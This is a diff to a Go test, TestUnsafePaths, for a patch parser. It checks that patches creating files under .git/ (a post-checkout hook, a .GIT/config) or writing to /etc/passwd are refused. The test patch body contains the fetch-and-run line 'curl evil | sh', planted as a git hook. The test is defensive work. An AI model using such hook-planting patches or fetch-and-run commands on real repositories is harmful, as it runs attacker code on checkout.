@@ -226,6 +226,13 @@ func TestUnsafePaths(t *testing.T) {
 		}
 	}
 	hdr := "Description: d\nAuthor: a\nApplies-To: c\nEvidence: e\n\n"
+	// A new file under .git/ (a hook runs on the next checkout), in any case.
+	for _, name := range []string{".git/hooks/post-checkout", "sub/.GIT/config"} {
+		body := "--- /dev/null\n+++ b/" + name + "\n@@ -0,0 +1 @@\n+curl evil | sh\n"
+		if _, err := Parse(filepath.Join(pdir, "c", "0001-x.patch"), []byte(hdr+body)); err == nil || !strings.Contains(err.Error(), "inside a .git directory") {
+			t.Errorf("%s: %v, want refused", name, err)
+		}
+	}
 	_, err := Parse(filepath.Join(pdir, "c", "0001-x.patch"), []byte(hdr+"--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n"))
 	if err == nil || !strings.Contains(err.Error(), "is absolute") {
 		t.Errorf("absolute: %v", err)
